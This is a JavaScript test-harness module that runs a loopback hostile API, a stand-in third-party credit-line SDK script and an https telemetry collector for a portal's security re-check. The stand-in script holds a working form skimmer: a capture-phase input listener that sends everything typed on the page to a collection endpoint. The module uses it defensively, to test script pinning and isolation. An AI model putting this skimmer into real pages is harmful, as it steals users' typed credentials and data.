// The hostile layer of the security re-check (docs/security.md#re-check): an HTTP server on
// loopback in front of the demo backend (scripts/demo-api.mjs) that passes every call through,
// and answers as a hostile or broken server would when a check asks it to. It also serves the
// stand-in credit-line (Volt) script at the pinned URL, a different file at that URL with a query,
// and records what the stand-in's listener heard; and an https collector for telemetry.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { call } from './http.mjs';

export const VOLT_PATH = '/volt/VoltMoney-sdk-v1.9.js';

/**
 * A stand-in for the credit-line SDK: the constructor and submit() the portal calls, drawing a box
 * with a field; and what any third-party script in that place may do: a 1 s timer, and a
 * capture-phase `input` listener that sends what is typed anywhere in the page to `heardUrl`.
 */
export function standInVolt(heardUrl) {
  return `(() => {
  const tell = (what) => fetch(${JSON.stringify(heardUrl)}, { method: 'POST', mode: 'no-cors', body: what }).catch(() => {});
  window.voltTicks = 0;
  setInterval(() => { window.voltTicks += 1; }, 1000);
  document.addEventListener('input', (event) => tell(String(event.target && event.target.value)), true);
  window.Volt = class {
    constructor(options) { this.options = options; }
    submit() {
      const box = document.createElement('section');
      box.setAttribute('aria-label', 'Credit line');
      const field = document.createElement('input');
      field.setAttribute('aria-label', 'Amount');
      box.append('Stand-in credit line ', field);
      document.getElementById(this.options.divId).append(box);
    }
  };
})();
`;
}

/** A different file the same host serves at the pinned URL with a query: it reports that it ran. */
const unpinnedCopy = (heardUrl) =>
  `fetch(${JSON.stringify(heardUrl)}, { method: 'POST', mode: 'no-cors', body: 'unpinned copy ran' });`;

const readBody = async (incoming) => {
  const chunks = [];
  for await (const chunk of incoming) chunks.push(chunk);
  return Buffer.concat(chunks);
};

/**
 * Starts the hostile API on `port`, passing calls to the demo backend on `demoPort`. What it
 * answers is steered through the returned `state`:
 *   revoked: every call with a bearer token gets a 401, as when the server ended the session;
 *   rewrites: path (after /customer) → function changing the demo's JSON answer;
 *   heard: what the stand-in script sent (its listener, or the unpinned copy).
 */
export function startHostileApi({ port, demoPort }) {
  const origin = `http://api.localhost:${port}`;
  const state = { revoked: false, rewrites: new Map(), heard: [] };
  const volt = standInVolt(`${origin}/heard`);
  const server = createServer((incoming, outgoing) =>
    answer(incoming, outgoing).catch((error) => {
      console.error(`hostile API: ${error.message}`);
      if (!outgoing.headersSent) outgoing.writeHead(502);
      outgoing.end();
    }),
  );
  async function answer(incoming, outgoing) {
    const url = new URL(incoming.url, origin);
    const cors = {
      'Access-Control-Allow-Origin': incoming.headers.origin ?? '*',
      'Access-Control-Allow-Methods': 'GET, POST, PUT, PATCH, DELETE',
      'Access-Control-Allow-Headers': incoming.headers['access-control-request-headers'] ?? '',
      Vary: 'Origin',
    };
    const body = await readBody(incoming);
    if (url.pathname === VOLT_PATH) {
      outgoing.writeHead(200, { ...cors, 'Content-Type': 'text/javascript' });
      outgoing.end(url.search ? unpinnedCopy(`${origin}/heard`) : volt);
      return;
    }
    if (url.pathname === '/heard') {
      state.heard.push(body.toString('utf8'));
      outgoing.writeHead(204, cors).end();
      return;
    }
    if (incoming.method !== 'OPTIONS' && state.revoked && incoming.headers.authorization) {
      outgoing.writeHead(401, { ...cors, 'Content-Type': 'application/json' });
      outgoing.end(
        JSON.stringify({
          message: 'Your session has expired. Please log in again.',
          details: { unauthorized: true },
        }),
      );
      return;
    }
    const passed = await call(`http://127.0.0.1:${demoPort}${incoming.url}`, {
      method: incoming.method,
      headers: incoming.headers,
      body,
    });
    const rewrite = state.rewrites.get(url.pathname.replace(/^\/customer/, ''));
    const ok = incoming.method === 'GET' && passed.status === 200;
    const text = rewrite && ok ? JSON.stringify(rewrite(JSON.parse(passed.body))) : passed.body;
    // The demo backend's own headers, its CORS among them.
    const headers = { ...passed.headers };
    delete headers['content-length'];
    delete headers['transfer-encoding'];
    outgoing.writeHead(passed.status, headers);
    outgoing.end(text);
  }
  server.listen(port, '127.0.0.1');
  return { origin, state, volt, close: () => server.close() };
}

/**
 * An https collector on `port` (telemetry must be https) with a certificate made for the run; the
 * browser context is told to accept it. `received` holds each body it was sent.
 */
export function startCollector({ port }) {
  const folder = mkdtempSync(join(tmpdir(), 'secrecheck-cert-'));
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-days',
      '1',
      '-subj',
      '/CN=127.0.0.1',
      '-keyout',
      join(folder, 'key.pem'),
      '-out',
      join(folder, 'cert.pem'),
    ],
    { stdio: 'ignore' },
  );
  const received = [];
  const server = createHttpsServer(
    { key: readFileSync(join(folder, 'key.pem')), cert: readFileSync(join(folder, 'cert.pem')) },
    async (incoming, outgoing) => {
      const cors = { 'Access-Control-Allow-Origin': incoming.headers.origin ?? '*' };
      if (incoming.method === 'POST') received.push((await readBody(incoming)).toString('utf8'));
      outgoing.writeHead(204, cors).end();
    },
  );
  rmSync(folder, { recursive: true });
  server.listen(port, '127.0.0.1');
  return { origin: `https://127.0.0.1:${port}`, received, close: () => server.close() };
}
